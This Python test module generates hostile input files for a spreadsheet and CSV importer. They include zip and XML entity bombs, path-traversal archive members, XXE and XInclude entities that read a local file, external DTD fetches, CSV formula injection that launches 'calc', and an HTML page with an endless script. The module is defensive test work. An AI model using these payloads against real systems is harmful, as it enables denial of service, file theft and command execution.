"""Makes lists that mean harm: `python -m tests.hostile FOLDER`; each has to end in a table or in a clear sentence.

What each tries is its name. They are made, never kept: some fill a disk where they are unpacked.
"""

import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.app.importing.old_excel import ole, record
from tests.app.importing.samples import (
    LIST,
    SHEET_XML,
    csv_text,
    html,
    ods,
    spreadsheetml,
    text_cell,
    with_parts,
    xlsx,
    xlsx_of_xml,
)
from tests.hostile_parts import (
    MANY,
    added,
    cells,
    headed,
    linked,
    lying,
    merged,
    overlapping,
    shared,
    sheets,
    table,
    twice,
    zipped,
)

STOLEN = "the file that was not given"
"""What stands in the file that some of them try to get into a list; see `stolen`."""
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))

HEAVY = frozenset({
    "100 million separators.csv", "16,384 columns and 3,000 rows.xlsx", "20,000 sheets of one file.xlsx",
    "200,000 merged areas.xlsx", "30 million lines.csv", "300,000 tables.html", "40 million letters before the page.mht",
    "60,000 empty members.xlsx", "a letter of 40 million signs.mht", "a text that is said a million times.xlsx",
    "an attribute that never ends.html", "an attribute of 50 million letters.xlsx", "letters in letters, 5,000 deep.mht",
    "compressed by blocks.ods", "compressed in the most expensive way.xlsx", "many members of 30 million zeros.xlsx",
    "one cell in the last place.xlsx", "one line of 100 million letters.csv", "one member of 400 million zeros.xlsx",
    "a member that lies about its size.xlsx", "a quotation that never ends.csv", "letters of no alphabet.csv",
})  # fmt: skip
"""Those that take long to be made or read."""


def hostile_files(stolen: Path) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """The files by name, each with what makes it; `stolen` is a file that some of them try to read."""
    for kinds in (_archives, _entities, _workbooks, _old_workbooks, _documents, _texts, _pages):
        yield from kinds(stolen).items()


def _archives(_: Path) -> dict[str, Callable[[], bytes]]:
    return {
        "one member of 400 million zeros.xlsx": lambda: zipped({SHEET_XML: bytes(400_000_000)}),
        "many members of 30 million zeros.xlsx": lambda: zipped({f"xl/{n}.xml": bytes(30_000_000) for n in range(15)}),
        "a member that lies about its size.xlsx": lambda: lying(bytes(60_000_000)),
        "an archive in an archive.xlsx": lambda: zipped({SHEET_XML: zipped({"xl/a.xml": bytes(9_000_000)})}),
        "60,000 empty members.xlsx": lambda: zipped({f"xl/worksheets/{n}.xml": b"" for n in range(60_000)}),
        "members that climb out of their folder.xlsx": lambda: added(
            {
                "../../../../../../../tmp/climbed": b"x",
                "/etc/climbed": b"x",
                "C:\\climbed": b"x",
                "..\\..\\climbed": b"x",
            }
        ),
        "a member that is a link to a file.xlsx": linked,
        "the same member twice.xlsx": lambda: twice(SHEET_XML),
        "bytes before and after the archive.xlsx": lambda: bytes(70_000) + xlsx(LIST) + bytes(70_000),
        "members that lie upon each other.xlsx": overlapping,
        "compressed in the most expensive way.xlsx": lambda: zipped({SHEET_XML: bytes(90_000_000)}, zipfile.ZIP_LZMA),
        "compressed by blocks.ods": lambda: zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": bytes(90_000_000)},
            zipfile.ZIP_BZIP2,
        ),
        "a directory that has no end.xlsx": lambda: xlsx(LIST)[:-22] + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0",
    }


def _entities(stolen: Path) -> dict[str, Callable[[], bytes]]:
    laughs = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
    file = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "{stolen.as_uri()}">]>'
    web = (
        '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY s SYSTEM "http://127.0.0.1:9/">]>'
    )
    of_the_web = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>'
    made: dict[str, Callable[[], bytes]] = {}
    for what, head, named in (
        ("a text that grows a billionfold", laughs, "&l11;"),
        ("another file as a text", file, "&s;"),
        ("a text from the web", web, "&s;"),
        ("a definition from the web", of_the_web, "x"),
    ):
        made[f"{what}.xlsx"] = lambda head=head, named=named: headed(xlsx_of_xml(cells(named)), SHEET_XML, head)
        made[f"{what}, shared.xlsx"] = lambda head=head, named=named: shared(
            f'{head}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{named}</t></si></sst>'
        )
        made[f"{what}.ods"] = lambda head=head, named=named: headed(
            ods(table(f"<table:table-cell><text:p>{named}</text:p></table:table-cell>")), "content.xml", head
        )
        made[f"{what}.xml"] = lambda head=head, named=named: (
            head + spreadsheetml(f'<Row><Cell><Data ss:Type="String">{named}</Data></Cell></Row>').partition("?>")[2]
        ).encode()
        made[f"{what}.html"] = lambda head=head, named=named: (
            head.partition("?>")[2] + f"<html><table><tr><td>Navn</td></tr><tr><td>{named}</td></tr></table></html>"
        ).encode()
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{stolen.as_uri()}"/>'
    made["another file included.xlsx"] = lambda: xlsx_of_xml(cells(included))
    made["a style sheet that reads a file.xml"] = lambda: (
        f'<?xml-stylesheet type="text/xsl" href="{stolen.as_uri()}"?>' + spreadsheetml("<Row/>")
    ).encode()
    return made


def _workbooks(stolen: Path) -> dict[str, Callable[[], bytes]]:
    here = stolen.as_uri()
    return {
        "one cell in the last place.xlsx": lambda: xlsx_of_xml(f'<row r="1048576">{text_cell("XFD1048576", "x")}</row>'),
        "places that are none.xlsx": lambda: xlsx_of_xml(
            "".join(f'<row r="{r}">{text_cell(p, "x")}</row>' for r, p in (("0", "A0"), ("-1", "ZZZZ9"), ("x", "9A"), ("9" * 30, "A" * 30)))
        ),
        "formulas that start programs.xlsx": lambda: xlsx([["Navn", "Link"], *(_FORMULAS,)]),
        "formulas that ask the web.xlsx": lambda: xlsx_of_xml(
            f'<row r="1"><c r="A1"><f>WEBSERVICE("http://127.0.0.1:9/?"&amp;B1)</f><v>1</v></c>'
            f'<c r="B1"><f>\'[{here}]Ark1\'!A1</f><v>2</v></c></row>'
        ),
        "a formula that refers to itself.xlsx": lambda: xlsx_of_xml('<row r="1"><c r="A1"><f>A1+1</f></c></row>'),
        "200,000 merged areas.xlsx": lambda: with_parts(xlsx(LIST), merged),
        "a merged area over everything.xlsx": lambda: with_parts(
            xlsx(LIST),
            lambda name, content: content.replace(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
            if name == SHEET_XML else content,
        ),
        "20,000 sheets of one file.xlsx": lambda: with_parts(xlsx(LIST), sheets),
        "a text that is said a million times.xlsx": lambda: xlsx_of_xml(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>999999999</v></c></row>' for n in range(1, 50_000))
        ),
        "16,384 columns and 3,000 rows.xlsx": lambda: xlsx_of_xml(
            "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 3_000))
        ),
        "elements 100,000 deep.xlsx": lambda: xlsx_of_xml("<row>" * 100_000 + "</row>" * 100_000),
        "an attribute of 50 million letters.xlsx": lambda: xlsx_of_xml(f'<row r="1" x="{"a" * 50_000_000}"/>'),
        "a text of 30 million letters.xlsx": lambda: xlsx_of_xml(f'<row r="1">{text_cell("A1", "a" * 30_000_000)}</row>'),
        "numbers that are none.xlsx": lambda: xlsx_of_xml(
            "".join(f'<row r="{n}"><c r="A{n}"><v>{v}</v></c></row>' for n, v in enumerate(("1e999999", "nan", "-inf", "9" * 100_000), 1))
        ),
        "dates that are none.xlsx": lambda: xlsx_of_xml(
            "".join(f'<row r="{n}"><c r="A{n}" t="d"><v>{v}</v></c></row>' for n, v in enumerate(("99999-99-99", "0000-00-00", "x"), 1))
        ),
        "links to another file.xlsx": lambda: added(
            {"xl/externalLinks/externalLink1.xml": b"<x/>", "xl/externalLinks/_rels/externalLink1.xml.rels": here.encode()}
        ),
        "relations that go round.xlsx": lambda: with_parts(
            xlsx(LIST), lambda name, content: content.replace(b"worksheets/sheet1.xml", b"workbook.xml")
        ),
        "a macro.xlsm": lambda: added({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)}),
    }  # fmt: skip


def _old_workbooks(_: Path) -> dict[str, Callable[[], bytes]]:
    whole = ole("Workbook", record(0x809, bytes(16)) + record(0xA))
    looped = bytearray(whole)
    looped[512:516] = (0).to_bytes(4, "little")  # a sector that follows itself
    return {
        "sectors that go round.xls": lambda: bytes(looped),
        "a sector size of nothing.xls": lambda: whole[:30] + b"\0\0" + whole[32:],
        "a sector size beyond all.xls": lambda: whole[:30] + b"\xff\x00" + whole[32:],
        "four billion sectors.xls": lambda: whole[:44] + b"\xff\xff\xff\x7f" + whole[48:],
        "records without an end.xls": lambda: ole("Workbook", b"\x09\x08\xff\xff" * 5_000),
        "four billion texts.xls": lambda: ole("Workbook", record(0x809, bytes(16)) + record(0xFC, b"\xff" * 8)),
        "a row beyond all.xls": lambda: ole("Workbook", record(0x203, b"\xff" * 14) * 1_000),
    }


def _documents(_: Path) -> dict[str, Callable[[], bytes]]:
    cell = "<table:table-cell><text:p>x</text:p></table:table-cell>"
    return {
        "a row repeated two billion times.ods": lambda: ods(
            table(cell, 'table:number-rows-repeated="2000000000"')
        ),
        "a cell repeated two billion times.ods": lambda: ods(
            table('<table:table-cell table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell>')
        ),
        "repeated less than never.ods": lambda: ods(table(cell, 'table:number-rows-repeated="-5"')),
        "a cell over everything.ods": lambda: ods(
            table('<table:table-cell table:number-rows-spanned="1048576" table:number-columns-spanned="16384"><text:p>x</text:p></table:table-cell>')
        ),
        "2,000,000 spaces in one cell.ods": lambda: ods(
            table('<table:table-cell><text:p><text:s text:c="2000000000"/></text:p></table:table-cell>')
        ),
        "tables in tables, 20,000 deep.ods": lambda: ods("<table:table>" * 20_000 + "</table:table>" * 20_000),
    }  # fmt: skip


def _texts(_: Path) -> dict[str, Callable[[], bytes]]:
    people = csv_text().encode()
    return {
        "one line of 100 million letters.csv": lambda: b"a" * 100_000_000,
        "100 million separators.csv": lambda: b";" * 100_000_000,
        "30 million lines.csv": lambda: b"a\n" * 30_000_000,
        "a quotation that never ends.csv": lambda: b'"' + people * 20_000,
        "nothing but quotation marks.csv": lambda: b'"' * 5_000_000,
        "nothing but zeros.csv": lambda: bytes(20_000_000),
        "zeros among the letters.csv": lambda: people.replace(b";", b"\0;\0"),
        "letters of no alphabet.csv": lambda: bytes(range(256)) * 20_000,
        "letters that go backwards.csv": lambda: people.replace(b"Navn", "Na\u202evn\u2066".encode()),
        "letters upon letters.csv": lambda: people.replace(b"Navn", ("N" + "\u0301" * 50_000).encode()),
        "half a letter of 16 bits.csv": lambda: b"\xff\xfe" + "Navn;CPR\n".encode("utf-16-le") * 1_000 + b"\xd8",
        "letters of 32 bits.csv": lambda: csv_text().encode("utf-32"),
        "letters of 7 bits.csv": lambda: b"+/v8-Navn;+AEM-PR\n" * 1_000,
        "formulas that start programs.csv": lambda: "\n".join((";".join(("Navn", "Link")), *_FORMULAS)).encode(),
        "places where patterns get lost.csv": lambda: b"Navn;CPR\n" + (b"1" * 60 + b"-" * 60 + b" " * 5_000 + b"!\n") * 300,
        "dates where patterns get lost.csv": lambda: b"Navn;Startdato\nA;" + b"1." * 200_000 + b"\nB;" + b"0" * 400_000,
        "columns of 200,000 names.csv": lambda: ";".join(f"k{n}" for n in range(MANY)).encode() + b"\n",
        "every line with another separator.csv": lambda: b"".join(b"a" + bytes([n]) + b"b\n" for n in range(1, 128)) * 2_000,
        "brackets 5 million deep.json": lambda: b"[" * 5_000_000,
        "a number of 5 million digits.json": lambda: b"[" + b"9" * 5_000_000 + b"]",
        "a name twice, 200,000 times.json": lambda: b"[{" + b",".join([b'"a":1'] * MANY) + b"}]",
    }  # fmt: skip


def _pages(stolen: Path) -> dict[str, Callable[[], bytes]]:
    page = html()
    here = stolen.as_uri()
    return {
        "a page that runs a program.html": lambda: page.replace("</table>", "</table><script>while(1){}</script>").encode(),
        "a page made of other pages.html": lambda: page.replace(
            "<table", f'<base href="{here}"><iframe src="{here}"></iframe><img src="http://127.0.0.1:9/"><link rel="import" href="{here}"><table'
        ).encode(),
        "tables in tables, 50,000 deep.html": lambda: b"<table><tr><td>" * 50_000,
        "elements 500,000 deep.html": lambda: b"<b>" * 500_000 + page.encode(),
        "a cell over everything.html": lambda: b'<table><tr><td rowspan="2000000000" colspan="2000000000">x</td></tr></table>',
        "a comment that never ends.html": lambda: page.encode() + b"<!--" * 2_000_000,
        "an attribute that never ends.html": lambda: b'<table><tr><td x="' + b"a" * 20_000_000,
        "300,000 tables.html": lambda: b"<table><tr><td>a</td></tr></table>" * 300_000,
        "rows that skip two billion.xml": lambda: spreadsheetml(
            '<Row ss:Index="2000000000"><Cell ss:Index="2000000000"><Data ss:Type="String">x</Data></Cell></Row>'
        ).encode(),
        "a cell merged over everything.xml": lambda: spreadsheetml(
            '<Row><Cell ss:MergeAcross="2000000000" ss:MergeDown="2000000000"><Data ss:Type="String">x</Data></Cell></Row>'
        ).encode(),
        "a letter of 40 million signs.mht": lambda: (
            b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n"
            b"Content-Transfer-Encoding: base64\n\n" + b"QUFB" * 10_000_000 + b"\n--b--\n"
        ),
        "letters in letters, 5,000 deep.mht": lambda: b"".join(
            b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(5_000)
        ),
        "40 million letters before the page.mht": lambda: b"MIME-Version: 1.0\n" + b"X-a: " + b"a" * 40_000_000 + b"\n\n",
    }  # fmt: skip


_FORMULAS = ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+HYPERLINK("http://127.0.0.1:9","x")', "-2+3")


def main() -> int:
    """Write all of them into a folder that is made for them."""
    folder = Path(sys.argv[1])
    folder.mkdir()
    stolen = folder / "stolen.txt"
    stolen.write_text(STOLEN)
    for name, make in hostile_files(stolen):
        (folder / name).write_bytes(make())
    return 0


if __name__ == "__main__":
    sys.exit(main())
